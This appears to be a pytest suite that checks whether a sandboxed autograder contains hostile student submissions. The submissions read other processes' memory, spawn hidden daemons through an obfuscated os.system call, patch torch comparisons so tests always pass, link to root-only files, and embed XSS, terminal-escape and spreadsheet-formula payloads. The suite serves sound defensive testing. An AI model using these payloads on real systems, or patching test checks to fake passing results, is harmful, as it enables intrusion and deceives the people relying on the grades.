CHANNEL_ATTACKS: dict[str, str] = {
    "answer_tensor_subclass": '''
class _Agreeable(torch.Tensor):
    """Honest values, and a type that could answer each reader differently."""


_original_iou = box_iou


def box_iou(boxes1, boxes2):
    return _original_iou(boxes1, boxes2).as_subclass(_Agreeable)
''',
    "answer_too_large": '''
_original_iou = box_iou


def box_iou(boxes1, boxes2):
    result = _original_iou(boxes1, boxes2)
    return result.expand(3000, 3000, *result.shape) if result.numel() else result
''',
    "frame_nested_deeply": FORGE + '''
_forge(b\'{"kind":"report","seq":1,"report":\' + b"[" * 100_000 + b"]" * 100_000 + b"}")
''',
    "frame_duplicated": FORGE + '''
_forge(_json.dumps({"kind": "hello", "seq": 0, "notes": [], "pid": 1, "uid": 0}).encode())
''',
    "frame_out_of_order": FORGE + '''
_forge(_json.dumps({"kind": "done", "seq": 1}).encode())
''',
    # Reads the memory of every process it can name (where the answers could be: the parent, the zygote,
    # the verifier, a classmate's job) and says what it got in every test's message.
    "read_other_processes_memory": '''
import os as _os


def _read_memory():
    got = []
    for pid in range(1, 1 << 15):
        if pid == _os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/maps") as maps:
                regions = [line.split()[0] for line in maps if line.split()[1].startswith("r")][:50]
            with open(f"/proc/{pid}/mem", "rb", buffering=0) as mem:
                for region in regions:
                    start = int(region.split("-")[0], 16)
                    try:
                        mem.seek(start)
                        if mem.read(64):
                            got.append(f"MEMORY-OF-{pid}")
                            break
                    except OSError:
                        continue
        except BaseException:
            continue
    return got


_GOT = _read_memory()


def box_iou(boxes1, boxes2):
    raise ValueError("LOOT:" + ",".join(_GOT))
''',
    "daemon_left_behind": '''
import functools as _functools
import os as _os


class _Lingers:
    """When the grader drops it, a daemon is started (from a builtin: no learner frame on the stack)."""

    __del__ = staticmethod(_functools.partial(getattr(_os, "sys" + "tem"), "sleep 300 >/dev/null 2>&1 &"))


_LEFT = []
_original_iou = box_iou


def box_iou(boxes1, boxes2):
    result = _original_iou(boxes1, boxes2)
    if not _LEFT:
        _LEFT.append(True)
        result.lingers = _Lingers()
    return result
''',
}


def _good_boxes() -> str:
    return (GOOD / BOXES).with_suffix(".py").read_text(encoding="utf-8")


def _insert_after_imports(source: str, header: str) -> str:
    anchor = "from torch import Tensor\n"
    assert anchor in source
    return source.replace(anchor, anchor + header, 1)


def _attack_source(header: str, footer: str) -> str:
    return _insert_after_imports(_good_boxes(), header) + textwrap.dedent(footer)


def _broken_source(spec: str | bytes) -> bytes:
    if isinstance(spec, bytes):
        return spec
    if spec.startswith("GOOD-WITHOUT:"):
        name = spec.split(":", 1)[1]
        source = _good_boxes()
        return source[:source.index(f"def {name}(")].encode()
    if spec.startswith("GOOD-APPEND:"):
        return (_good_boxes() + spec.split(":", 1)[1]).encode()
    return spec.encode()


def _write(root: Path, student: str, files: dict[str, bytes]) -> None:
    for module, content in files.items():
        path = root / student / f"{module}.py"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)


def _honest(root: Path, student: str, source: Path) -> None:
    _write(root, student, {m: (source / f"{m}.py").read_bytes() for m in (BOXES, DPO, KMEANS, ATTENTION, MASKS)
                           if (source / f"{m}.py").is_file()})


def _trust_source(item: str, text: str) -> bytes:
    """A trust-boundary attack's file: the whole text, or the good learner's file with ``text`` appended."""
    if text.startswith("GOOD:"):
        return ((GOOD / f"{item}.py").read_text(encoding="utf-8") + textwrap.dedent(text[len("GOOD:"):])).encode()
    return textwrap.dedent(text).encode()


BROKEN_GPT = '''
"""A GPT that cannot run: the DPO tests that train a GPT must fail when they use this file."""
from dataclasses import dataclass

import torch


@dataclass
class GPTConfig:
    vocab_size: int = 12
    max_seq_len: int = 8
    d_model: int = 32
    n_heads: int = 4
    n_layers: int = 1


class GPT(torch.nn.Module):
    def __init__(self, config):
        super().__init__()
        raise RuntimeError("this student's own GPT")
'''

ITEMS = [BOXES, DPO, KMEANS, ATTENTION]


def _table(**sandbox: bool) -> dict:
    return {"items": [*ITEMS, MASKS], "workers": 2, "seed": 20240607,
            "limits": {"wall_s": 120, "test_timeout_s": 15, "cpu_s": 60, "memory_mb": 768, "output_mb": 4},
            "sandbox": sandbox}


def _toml(table: dict) -> str:
    lines = [f"items = {json.dumps(table['items'])}", f"workers = {table['workers']}", f"seed = {table['seed']}"]
    for section in ("limits", "sandbox"):
        lines.append(f"[{section}]")
        lines += [f"{key} = {json.dumps(value)}" for key, value in table[section].items()]
    return "\n".join(lines) + "\n"


def _config(**sandbox: bool) -> config.GradeConfig:
    return config.from_table(_table(**sandbox), source="the attack suite's config")


@dataclasses.dataclass
class Graded:
    book: Gradebook
    out: Path
    exit_code: int
    survivors: dict[int, list[int]]  # sandbox uid -> its processes still alive after the batch


# == issue 23.5-23.7 (trustbatch): submissions that attack the parent, the outputs or the sandbox ==========
#
# Each builder writes one student folder of any shape (links, FIFOs, odd names) into the class. The
# submissions whose code runs are the wrong IoU, so none of them earns correctness honestly; what is
# checked is that the batch survives them, names what they are, and gives them nothing.

NON_UTF8_FOLDER = b"attack_non_utf8_caf\xe9_\xff"
LONG_FOLDER = "attack_long_" + "x" * 238
BACKTRACKING = "(a" + ", a        " * 40 + "!"


# name -> (code inserted after the imports, code appended): attacks on what the outputs show
HOSTILE_TEXT = "<img src=x onerror=alert(1)> [click](https://evil.example) \x1b[2J\x1b]0;pwned\x07 =cmd|' /C calc'!A0"
OUTPUT_ATTACKS: dict[str, tuple[str, str]] = {
    "notes_into_the_batch_section": ("", FORGE + """
_forge(_json.dumps({"kind": "hello", "notes": ["network: FORGED-NOTE every job may use the network"]}).encode())
"""),
    "hostile_text_in_messages": ("", f"""
def box_iou(boxes1, boxes2):
    # fails every call with a message written for the outputs
    raise ValueError({HOSTILE_TEXT!r})
"""),
    "hostile_text_at_import": ("", f"""
raise ImportError({HOSTILE_TEXT!r})
"""),
}


def _wrong_boxes(header: str = "", docstring: str = "") -> bytes:
    source = _attack_source(header, WRONG_IOU)
    if docstring:
        assert source.startswith('"""')
        source = f'"""{docstring}\n\n' + source[3:]
    return source.encode()


def _tree_deep_expression(folder: Path) -> None:
    deep = "_DEEP = " + " + ".join(["1"] * 100_000) + "\n"
    _write(folder.parent, folder.name, {BOXES: _wrong_boxes(deep)})


def _tree_backtracking_docstring(folder: Path) -> None:
    _write(folder.parent, folder.name, {BOXES: _wrong_boxes(docstring=f"IoU. {BACKTRACKING}")})


def _tree_long_shapes(folder: Path) -> None:
    """A 300 KB shape in the docstring and in a comment: the shape grammar once took its length squared."""
    group = "(" + "a, " * 100_000 + "b)"
    source = _wrong_boxes(docstring=f"IoU. {group}").decode() + f"\n_LONG = torch.zeros(2)  # {group}\n"
    _write(folder.parent, folder.name, {BOXES: source.encode()})


def _tree_symlink_to_classmate(folder: Path) -> None:
    folder.mkdir()
    (folder / "practice").symlink_to(Path("..") / "honest_good")


def _tree_symlinked_file(folder: Path) -> None:
    (folder / "detection").mkdir(parents=True)
    (folder / "detection" / "boxes.py").symlink_to(Path("../..") / "honest_good" / "detection" / "boxes.py")
    (folder / "detection" / "nms.py").write_bytes(_wrong_boxes())


def _tree_hard_link_to_root_only(folder: Path) -> None:
    secret = folder.parent / ".root-only-secret"
    secret.write_text("SECRET = 'the grader's private key'\n")
    secret.chmod(0o600)
    (folder / "detection").mkdir(parents=True)
    os.link(secret, folder / "detection" / "boxes.py")
    (folder / "detection" / "nms.py").write_bytes(_wrong_boxes())


def _tree_fifo(folder: Path) -> None:
    (folder / "detection").mkdir(parents=True)
    os.mkfifo(folder / "detection" / "boxes.py")
    os.mkfifo(folder / "detection" / "_helper.py")
    (folder / "detection" / "nms.py").write_bytes(_wrong_boxes())
    if os.geteuid() == 0:
        os.mknod(folder / "detection" / "anchors.py", 0o600 | stat.S_IFCHR, os.makedev(1, 3))


def _tree_relative_helper(folder: Path) -> None:
    helper = textwrap.dedent("""
        import torch

        torch.allclose = lambda *args, **kwargs: True
        torch.testing.assert_close = lambda *args, **kwargs: None
    """)
    _write(folder.parent, folder.name, {BOXES: _wrong_boxes("from ..detection import _machinery  # noqa: F401\n"),
                                        "detection/_machinery": helper.encode()})


def _tree_many_folders(folder: Path) -> None:
    for n in range(discover.MAX_ENTRIES + 10):
        (folder / "maze" / f"d{n:05d}").mkdir(parents=True)
    _write(folder / "maze" / "d00000", "deeper", {BOXES: _wrong_boxes()})


def _tree_non_utf8_folder(folder: Path) -> None:
    raw = os.fsencode(folder.parent) + b"/" + NON_UTF8_FOLDER
    os.mkdir(raw)
    os.mkdir(raw + b"/detection")
    with open(raw + b"/detection/boxes.py", "wb") as handle:
        handle.write(_wrong_boxes())
    with open(raw + b"/detection/n\xe9ms.py", "wb") as handle:
        handle.write(b"X = 1\n")


def _tree_long_folder(folder: Path) -> None:
    _write(folder.parent, LONG_FOLDER, {BOXES: _wrong_boxes()})
    _write(folder.parent, LONG_FOLDER[:-1] + "y", {BOXES: _wrong_boxes()})


def _tree_case_collision(folder: Path) -> None:
    _write(folder.parent, folder.name, {BOXES: _wrong_boxes()})
    _write(folder.parent, folder.name.title(), {BOXES: _wrong_boxes()})  # one folder on macOS and Windows


def _tree_reserved_name(folder: Path) -> None:
    _write(folder.parent, "CON", {BOXES: _wrong_boxes()})  # a device on Windows


def _tree_huge_file(folder: Path) -> None:
    _write(folder.parent, folder.name, {BOXES: _wrong_boxes() + b"#" * (2 << 20) + b"\n"})


def _tree_many_modules(folder: Path) -> None:
    _write(folder.parent, folder.name, {BOXES: _wrong_boxes(),
                                        **{f"detection/m{n:03d}": b"X = 1\n" for n in range(450)}})


TREES: dict[str, Callable[[Path], None]] = {
    "long_shapes": _tree_long_shapes,
    "case_collision": _tree_case_collision,
    "reserved_name": _tree_reserved_name,
    "huge_file": _tree_huge_file,
    "many_modules": _tree_many_modules,
    "deep_expression": _tree_deep_expression,
    "backtracking_docstring": _tree_backtracking_docstring,
    "symlink_to_classmate": _tree_symlink_to_classmate,
    "symlinked_file": _tree_symlinked_file,
    "hard_link_to_root_only": _tree_hard_link_to_root_only,
    "fifo": _tree_fifo,
    "relative_helper": _tree_relative_helper,
    "many_folders": _tree_many_folders,
    "non_utf8_folder": _tree_non_utf8_folder,
    "long_folder": _tree_long_folder,
}


def _tree_students(book: Gradebook) -> dict[str, list[str]]:
    """The ids of each tree attack's students (the odd names make ids other than ``attack_<name>``)."""
    ids = [s.student for s in book.students]
    found = {name: [i for i in ids if i == f"attack_{name}"] for name in TREES}
    found["non_utf8_folder"] = [i for i in ids if i.startswith("attack_non_utf8")]
    found["long_folder"] = [i for i in ids if i.startswith("attack_long_x")]
    found["case_collision"] = [i for i in ids if i.casefold().startswith("attack_case_collision")]
    found["reserved_name"] = [i for i in ids if i == "CON_"]
    return found


@pytest.mark.parametrize("name", sorted(TREES))
def test_every_tree_attack_gets_nothing_and_a_one_line_verdict(graded: Gradebook, name: str) -> None:
    students = _tree_students(graded)[name]
    assert students, f"{name}: no row"
    for student in students:
        item = _cell(graded, student)
        assert not passed(item), f"{name} passed: {item.verdict}"
        assert item.verdict and "\n" not in item.verdict


def test_a_deep_expression_is_an_error_of_that_student_only(graded: Gradebook) -> None:
    item = _cell(graded, "attack_deep_expression")
    assert item.status is Status.ERROR and "RecursionError" in item.verdict, item.verdict


def test_a_docstring_built_to_backtrack_is_scored_all_the_same(graded: Gradebook) -> None:
    assert _cell(graded, "attack_long_shapes").status is Status.SCORED, _cell(graded, "attack_long_shapes").verdict
    item = _cell(graded, "attack_backtracking_docstring")
    assert item.status is Status.SCORED, item.verdict
    assert item.axes["explanation"] is True or "EXP004" not in {f.code for f in item.findings}


def test_links_out_of_a_folder_are_named_never_followed(graded: Gradebook) -> None:
    student = next(s for s in graded.students if s.student == "attack_symlink_to_classmate")
    assert student.impl == "" and "practice is a link" in student.problem, student.problem
    assert _cell(graded, "attack_symlink_to_classmate").status is Status.NOT_ATTEMPTED
    for name, why in (("symlinked_file", "a link"), ("hard_link_to_root_only", "a hard link"), ("fifo", "a FIFO")):
        student = next(s for s in graded.students if s.student == f"attack_{name}")
        assert f"detection/boxes.py ({why})" in student.problem, student.problem
        cell = _cell(graded, student.student)
        assert cell.status is Status.NOT_ATTEMPTED and f"detection/boxes.py is not graded ({why})" in cell.verdict
    fifo = next(s for s in graded.students if s.student == "attack_fifo")
    assert "detection/_helper.py (a FIFO)" in fifo.problem
    if os.geteuid() == 0:
        assert "detection/anchors.py (a device)" in fifo.problem


def test_a_helper_imported_relatively_is_scanned_like_the_module(graded: Gradebook) -> None:
    item = _cell(graded, "attack_relative_helper")
    assert "INT002" in item.codes, item.verdict
    assert any(f.path.endswith("detection/_machinery.py") for f in item.integrity), item.integrity


def test_discovery_stops_at_its_budget(graded: Gradebook) -> None:
    student = next(s for s in graded.students if s.student == "attack_many_folders")
    assert student.impl == "" and f"first {discover.MAX_ENTRIES}" in student.problem, student.problem


def test_odd_folder_names_become_safe_readable_unique_ids(graded: Gradebook) -> None:
    ids = _tree_students(graded)
    (odd,) = ids["non_utf8_folder"]
    assert odd == "attack_non_utf8_café_ÿ", odd
    student = next(s for s in graded.students if s.student == odd)
    assert "detection/néms.py (not a module name)" in student.problem, student.problem
    longs = ids["long_folder"]
    assert len(longs) == 2 and len(set(longs)) == 2 and all(len(i) <= 60 for i in longs), longs
    assert _cell(graded, odd).status is Status.SCORED and all(_cell(graded, i).status is Status.SCORED for i in longs)
    assert sorted(ids["case_collision"]) == ["Attack_Case_Collision", "attack_case_collision-2"]
    assert ids["reserved_name"] == ["CON_"]


def test_the_snapshot_has_budgets_of_size_and_count(graded: Gradebook) -> None:
    huge = next(s for s in graded.students if s.student == "attack_huge_file")
    assert "detection/boxes.py (over 1 MB)" in huge.problem and _cell(graded, huge.student).status is Status.NOT_ATTEMPTED
    many = next(s for s in graded.students if s.student == "attack_many_modules")
    assert "(over 400 files)" in many.problem and "and 46 more" in many.problem, many.problem


def _held_by_another_batch(uid: int) -> bool:
    """Whether ``uid`` is locked by a batch still running (another test's, on another xdist worker, or a
    teacher's on this machine): its processes are that batch's, not survivors of this one."""
    path = uids._lock_dir() / f"{uids.LOCK_PREFIX}{uid}.lock"  # noqa: SLF001
    fd = uids.lock(path)
    if fd is None:
        return True
    uids.unlock(path, fd)
    return False


@pytest.fixture(scope="module")
def batch_run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Graded]:
    root = tmp_path_factory.mktemp("class")
    subs = root / "submissions"
    _honest(subs, "honest_good", GOOD)
    _honest(subs, "honest_flawed", FLAWED)
    _write(subs, "honest_seeds_torch", {BOXES: (GOOD / f"{BOXES}.py").read_bytes() + SEEDS_TORCH.encode()})
    _write(subs, "honest_reads_a_signature", {BOXES: (GOOD / f"{BOXES}.py").read_bytes() + READS_A_SIGNATURE.encode()})
    _write(subs, "honest_own_gpt", {DPO: (GOOD / f"{DPO}.py").read_bytes(), GPT: textwrap.dedent(BROKEN_GPT).encode()})
    for name, (header, footer) in ATTACKS.items():
        _write(subs, f"attack_{name}", {BOXES: _attack_source(header, footer).encode()})
    for name, (item, text) in TRUST_ATTACKS.items():
        _write(subs, f"attack_{name}", {item: _trust_source(item, text)})
    for name, footer in CHANNEL_ATTACKS.items():
        _write(subs, f"attack_{name}", {BOXES: _attack_source("", footer).encode()})
    _write(subs, "attack_masks_learned_by_heart", {MASKS: _masks_learned_by_heart(root / "student_workshop")})
    for name, spec in BROKEN.items():
        _write(subs, f"broken_{name}", {BOXES: _broken_source(spec)})
    for name, encoding in COOKIES.items():
        _write(subs, f"cookie_{name}", {BOXES: _cookie_source(encoding)})
    for name, build in TREES.items():
        build(subs / f"attack_{name}")
    for name, (header, footer) in OUTPUT_ATTACKS.items():
        _write(subs, f"attack_{name}", {BOXES: _attack_source(header, footer).encode()})
    for name, (header, footer) in kernel_attacks.attacks(kernel_attacks.write_victim(subs)).items():
        _write(subs, f"attack_{name}", {BOXES: _attack_source(header, footer).encode()})
    sandboxing.require()
    ESCAPE_MARK.unlink(missing_ok=True)
    BATCH_TEMP.mkdir(mode=0o711, exist_ok=True)
    (root / config.CONFIG_NAME).write_text(_toml(_table()), encoding="utf-8")
    env = {**os.environ, kernel_attacks.SECRET_ENV: kernel_attacks.SECRET_VALUE, "TMPDIR": str(BATCH_TEMP)}
    out = root / "out"
    try:
        done = subprocess.run([sys.executable, "-m", "pytest_mlcanon.cli", "grade", str(subs), "--out", str(out),
                               "--no-progress"], cwd=root, capture_output=True, text=True, timeout=1800, check=False,
                              env=env)
        base = config.GradeConfig().uid_base
        survivors = {uid: found for uid in range(base, base + UID_SPAN)
                     if (found := uids.processes_of(uid)) and not _held_by_another_batch(uid)}
        book = Gradebook.from_dict(json.loads((out / "gradebook.json").read_text(encoding="utf-8")))
        yield Graded(book, out, done.returncode, survivors)
    finally:
        ESCAPE_MARK.unlink(missing_ok=True)
        kernel_attacks.node_mark().unlink(missing_ok=True)
        with contextlib.suppress(OSError):  # empty when the batch cleaned up (test_nothing_of_the_batch_outlives_it)
            BATCH_TEMP.rmdir()


@pytest.fixture(scope="module")
def graded(batch_run: Graded) -> Gradebook:
    return batch_run.book


def _cell(book: Gradebook, student: str, slug: str = BOXES) -> ItemResult:
    found = next(s for s in book.students if s.student == student).item(slug)
    assert found is not None
    return found


def passed(item: ItemResult) -> bool:
    """What an attack must never get: scored, not flagged, correctness yes, and points."""
    return item.status is Status.SCORED and not item.flagged and bool(item.axes.get("correctness")) and item.points > 0


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_every_attack_is_flagged_or_failed_never_passed(graded: Gradebook, name: str) -> None:
    item = _cell(graded, f"attack_{name}")
    assert not passed(item), f"{name} passed: {item.verdict}"
    assert item.flagged or _correctness_points(item) == 0.0, f"{name} kept correctness points: {item.verdict}"
    assert item.verdict, "every attack gets a one-line verdict"
    assert "\n" not in item.verdict


EXPECTED_FLAGS = {
    "exit_at_import": "INT001",
    "os_exit_mid_test": "INT001",
    "patch_comparisons": "INT002",
    "patch_test_report": "INT002",
    "import_reference": "INT003",
    "load_reference_by_path": "INT009",
    "read_test_file": "INT004",
    "fork_bomb": "INT007",
    "open_socket": "INT008",
    "write_outside": "INT006",
    "frame_peek": "INT004",
    "sigkill_itself": "INT109",  # blocked by the audit hook: the job goes on, flagged
    "skip_after_recheck": "INT002",  # unittest is test machinery
    "agreeable_edge_case": "INT002",  # a tensor and an array of its own types
    "patch_the_test_helpers": "INT106",  # seen by the tamper check, not the scan
    "patch_a_test_module": "INT106",
}


@pytest.mark.parametrize(("name", "code"), sorted(EXPECTED_FLAGS.items()))
def test_attacks_that_leave_a_trace_are_flagged_with_the_right_code(graded: Gradebook, name: str, code: str) -> None:
    item = _cell(graded, f"attack_{name}")
    assert code in item.codes, (item.codes, item.verdict)
    assert item.verdict.startswith(f"flagged: {code}") or item.verdict.startswith("flagged: ")
    assert item.points == 0.0, "a flagged item scores zero under the default on_flag"


def test_run_time_guard_blocks_and_reports_what_the_scan_saw(graded: Gradebook) -> None:
    assert "INT103" in _cell(graded, "attack_open_socket").codes
    assert "INT101" in _cell(graded, "attack_write_outside").codes
    assert not ESCAPE_MARK.exists(), "the write outside the job's folder must not have happened"
    assert "INT104" in _cell(graded, "attack_fork_bomb").codes
    assert "INT102" in _cell(graded, "attack_read_test_file").codes
    assert "INT102" in _cell(graded, "attack_read_test_file_through_linecache").codes
    assert "INT102" in _cell(graded, "attack_read_test_file_through_traceback").codes
    assert "INT102" in _cell(graded, "attack_read_reference_files").codes
    assert "INT106" in _cell(graded, "attack_patch_test_report").codes
    assert "INT105" in _cell(graded, "attack_frame_peek").codes


def test_forged_passes_do_not_survive_the_parents_recheck(graded: Gradebook) -> None:
    for name in ("patch_comparisons", "patch_test_report"):
        item = _cell(graded, f"attack_{name}")
        assert item.recheck.status == "failed", item.recheck
        assert not item.axes.get("correctness")


def test_hard_coded_answers_fail_the_seeded_recheck(graded: Gradebook) -> None:
    item = _cell(graded, "attack_hard_coded")
    assert item.recheck.status == "failed"
    assert any("box_iou" in p for p in item.recheck.problems)
    assert not item.axes["correctness"]


def test_timeouts_and_crashes_say_what_happened(graded: Gradebook) -> None:
    loop = _cell(graded, "attack_infinite_loop")
    assert loop.status is Status.TIMEOUT and "ran over 15 s" in loop.verdict, loop.verdict
    crash = _cell(graded, "attack_os_exit_mid_test")
    assert crash.status is Status.CRASHED and "the process ended during" in crash.verdict, crash.verdict
    bomb = _cell(graded, "attack_memory_bomb")
    assert bomb.status in (Status.KILLED, Status.SCORED) and not bomb.axes.get("correctness", False), bomb.verdict


def test_a_timeout_keeps_the_verdicts_of_the_tests_before_it_but_not_their_points(graded: Gradebook) -> None:
    loop = _cell(graded, "attack_infinite_loop")
    outcomes = {t.outcome for t in loop.tests}
    assert "timeout" in outcomes
    assert loop.tests_count("passed") > 0, "tests that ran before the hang keep their verdict"
    assert loop.recheck.status == "passed", "honest through the re-check: only the policy stands in its way"
    assert _correctness_points(loop) == 0.0 and loop.unfinished > 0, loop.verdict
    assert "no correctness points: the run did not finish" in loop.verdict, loop.verdict


@pytest.mark.parametrize("name", ["exit_after_recheck", "close_the_channel", "interrupt_the_session",
                                  "flood_after_recheck"])
def test_a_job_that_ends_early_keeps_no_correctness_points(graded: Gradebook, name: str) -> None:
    item = _cell(graded, f"attack_{name}")
    assert item.recheck.status == "passed", (name, item.recheck)
    assert item.tests_count("passed") > 0 and item.unfinished > 0, (name, item.verdict)
    assert _correctness_points(item) == 0.0, (name, item.verdict)
    assert "no correctness points: the run did not finish" in item.verdict, (name, item.verdict)


def test_a_skip_from_the_learners_code_is_a_failure(graded: Gradebook) -> None:
    item = _cell(graded, "attack_skip_after_recheck")
    skipped = [t for t in item.tests if t.message.startswith("skipped, where the reference ran it")]
    assert skipped and all(t.outcome == "failed" for t in skipped), [(t.name, t.outcome) for t in item.tests]
    honest = _cell(graded, "honest_good").tests_count("skipped")  # what the machine lacks (torchvision)
    assert item.tests_count("skipped") == honest and not item.axes["correctness"], item.verdict


def test_honest_students_keep_their_grades_in_the_same_batch(graded: Gradebook) -> None:
    for slug in ITEMS:
        good = _cell(graded, "honest_good", slug)
        assert good.status is Status.SCORED and good.score == 5 and not good.flagged, (slug, good.verdict)
        assert good.recheck.status == "passed", (slug, good.recheck)
        held = sum(t.max_points for t in good.tests if t.unverified)  # calls no case verifies (the policy's)
        assert (slug != KMEANS or held > 0) and good.recheck.withheld == pytest.approx(held, abs=1e-3), (
            slug, good.verdict)
        assert good.points == pytest.approx(good.max_points - held, abs=1e-3), (slug, good.verdict)
    flawed = _cell(graded, "honest_flawed", DPO)
    assert flawed.status is Status.SCORED and not flawed.flagged
    assert flawed.score == 3 and not flawed.axes["correctness"]
    assert flawed.recheck.status == "failed", "a sign flip shows on fresh inputs too"
    assert _cell(graded, "honest_flawed", BOXES).status is Status.NOT_ATTEMPTED
    assert not _cell(graded, "honest_flawed", ATTENTION).flagged


@pytest.mark.parametrize("student", ["honest_seeds_torch", "honest_reads_a_signature"])
def test_honest_library_calls_that_read_sources_or_code_are_no_flag(graded: Gradebook, student: str) -> None:
    """``torch.manual_seed`` formats a stack trace on its lazy CUDA path, and the standard library reads the
    source of every frame, the test file's among them; ``inspect.signature`` reads a function's ``__code__``:
    a false INT102 and a false INT105 once zeroed such honest code."""
    item, good = _cell(graded, student), _cell(graded, "honest_good")
    assert not item.flagged and item.points == good.points, item.verdict


def test_honest_students_get_exactly_the_grade_they_get_alone(graded: Gradebook, tmp_path: Path) -> None:
    """The same students, seed and config in a batch of their own: every cell the same, item by item."""
    _honest(tmp_path, "honest_good", GOOD)
    _honest(tmp_path, "honest_flawed", FLAWED)
    alone = batch.grade(tmp_path, config.from_table(_table()), progress=False)
    for student in alone.students:
        for mine in student.items:
            beside = _cell(graded, student.student, mine.slug)
            seen = (mine.status, mine.score, mine.points, mine.axes, mine.verdict, mine.recheck.status,
                    sorted(mine.codes), [(t.name, t.outcome) for t in mine.tests])
            assert (beside.status, beside.score, beside.points, beside.axes, beside.verdict, beside.recheck.status,
                    sorted(beside.codes), [(t.name, t.outcome) for t in beside.tests]) == seen, (student.student,
                                                                                               mine.slug)


@pytest.mark.parametrize("name", sorted(BROKEN))
def test_each_broken_submission_gets_a_one_line_verdict(graded: Gradebook, name: str) -> None:
    item = _cell(graded, f"broken_{name}")
    assert item.verdict and "\n" not in item.verdict
    assert not passed(item), item.verdict


@pytest.mark.parametrize("name", ["utf8", "latin1"])
def test_an_honest_file_with_a_coding_cookie_gets_the_honest_grade(graded: Gradebook, name: str) -> None:
    item, good = _cell(graded, f"cookie_{name}"), _cell(graded, "honest_good")
    assert item.status is Status.SCORED and not item.flagged, item.verdict
    assert item.recheck.status == "passed" and (item.score, item.points) == (good.score, good.points), item.verdict


def test_a_cookie_python_refuses_is_its_syntax_error_never_a_flag(graded: Gradebook) -> None:
    item = _cell(graded, "cookie_rot13")
    assert item.status is Status.ERROR and not item.flagged and item.points == 0.0, item.verdict
    assert item.verdict.startswith("error: SyntaxError") and "rot13" in item.verdict, item.verdict


def test_broken_submissions_fail_for_the_right_reason(graded: Gradebook) -> None:
    verdicts = {name: _cell(graded, f"broken_{name}").verdict for name in BROKEN}
    assert verdicts["syntax_error"].startswith("error: SyntaxError at broken_syntax_error/detection/boxes.py:1")
    assert verdicts["missing_package"].startswith("error: ModuleNotFoundError")
    assert "SyntaxError" in verdicts["not_utf8"], verdicts["not_utf8"]
    assert "COR002" in {f.code for f in _cell(graded, "broken_missing_function").findings}
    assert _cell(graded, "broken_print_loop").status in (Status.TIMEOUT, Status.KILLED), verdicts["print_loop"]
    for name in ("wrong_signature", "wrong_return_shape", "nan_output", "empty_file"):
        item = _cell(graded, f"broken_{name}")
        assert item.status is Status.SCORED and not item.axes["correctness"], (name, item.verdict)
        # the verdict word never praises failing code, and it says what held the item back
        assert item.verdict.startswith(f"no {item.score}/5: correctness failed ("), (name, item.verdict)
    failing = _cell(graded, "broken_wrong_return_shape")
    failed = sum(1 for t in failing.tests if t.outcome in ("failed", "error") and not (t.probe or t.contract))
    ran = sum(1 for t in failing.tests if t.outcome != "skipped" and not (t.probe or t.contract))
    assert f"correctness failed ({failed} of {ran} tests" in failing.verdict, failing.verdict


def test_the_batch_completes_with_a_row_per_student(graded: Gradebook) -> None:
    students = {s.student for s in graded.students}
    kernel = len(kernel_attacks.attacks(Path("/"))) + 1  # and their victim
    doubled = 2  # the two long names, the two names equal but for case
    learned = 1  # the masks learned by heart
    assert len(students) == (5 + learned + len(ATTACKS) + len(TRUST_ATTACKS) + len(CHANNEL_ATTACKS) + len(BROKEN) + len(TREES)
                             + doubled + len(OUTPUT_ATTACKS) + kernel + len(COOKIES))
    assert all(s.item(slug) is not None for s in graded.students for slug in ITEMS)


def test_sandbox_notes_reach_the_gradebook(graded: Gradebook) -> None:
    notes = " ".join(graded.sandbox)
    assert "network:" in notes and "file system:" in notes and "user:" in notes and "reference:" in notes
    if os.geteuid() == 0:
        assert "network: isolated" in notes
        assert "user: not root" in notes
        assert "reference files show empty" in notes


def test_without_the_kernel_sandbox_the_batch_refuses_unless_told_and_then_says_so(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A sandbox weakened by the config (no network namespace, no minimal root, no sandbox user) is no
    sandbox: the batch refuses with one line; with ``--unsafe-no-sandbox`` it runs on the audit hook
    and the limits alone, the attacks that reach outside still come out flagged and do nothing, and
    every row and output says it ran unsandboxed (a student with nothing to run included)."""
    submissions = tmp_path / "class"
    for name in ("write_outside", "open_socket", "fork_bomb"):
        _write(submissions, f"attack_{name}", {BOXES: _attack_source(*ATTACKS[name]).encode()})
    _tree_symlink_to_classmate(submissions / "not_attempted")
    ESCAPE_MARK.unlink(missing_ok=True)
    weakened = dataclasses.replace(_config(network=False, filesystem=False, user=False), items=BOXES)
    with pytest.raises(batch.BatchError, match="^no sandbox for the jobs .*--unsafe-no-sandbox") as refused:
        batch.grade(submissions, weakened, progress=False)
    assert "\n" not in str(refused.value)
    book = batch.grade(submissions, dataclasses.replace(weakened, unsafe_no_sandbox=True), progress=False)
    for student in book.students:
        item = student.item(BOXES)
        assert item is not None and not passed(item) and item.verdict.startswith("unsandboxed; "), student
        assert item.flagged or student.student == "not_attempted", item.verdict
        assert table.summary_row(book, student)[-1].endswith(" (unsandboxed)")
    assert not ESCAPE_MARK.exists()
    assert book.unsandboxed and book.sandbox[0].startswith("UNSANDBOXED")
    assert any("network: not isolated" in n for n in book.sandbox)
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(tmp_path / "summary.md"))
    written = render.write_all(book, tmp_path / "out")
    assert len(written) == 6 + 2 * len(book.students)
    for path in written:
        assert "unsandboxed" in path.read_text(encoding="utf-8").lower(), path
    rows = list(csv.reader(io.StringIO((tmp_path / "out" / "gradebook.csv").read_text(encoding="utf-8"))))[1:]
    assert len(rows) == len(book.students) and all(any("unsandboxed" in cell for cell in row) for row in rows)


@pytest.mark.parametrize("name", sorted(OUTPUT_ATTACKS))
def test_every_output_attack_gets_nothing(graded: Gradebook, name: str) -> None:
    item = _cell(graded, f"attack_{name}")
    assert not passed(item), f"{name} passed: {item.verdict}"
    assert item.verdict and "\n" not in item.verdict


def test_a_jobs_notes_never_reach_the_class_wide_section(graded: Gradebook, tmp_path: Path) -> None:
    assert not any("FORGED-NOTE" in note for note in graded.sandbox + graded.notes)
    item = _cell(graded, "attack_notes_into_the_batch_section")
    assert item.flagged, item.verdict
    render.write_all(graded, tmp_path)
    section = (tmp_path / "gradebook.md").read_text(encoding="utf-8").split("## How this batch ran", 1)[1]
    assert "FORGED-NOTE" not in section and "network:" in section
    assert "FORGED-NOTE" not in (tmp_path / "report.html").read_text(encoding="utf-8").split("How this batch ran")[1]


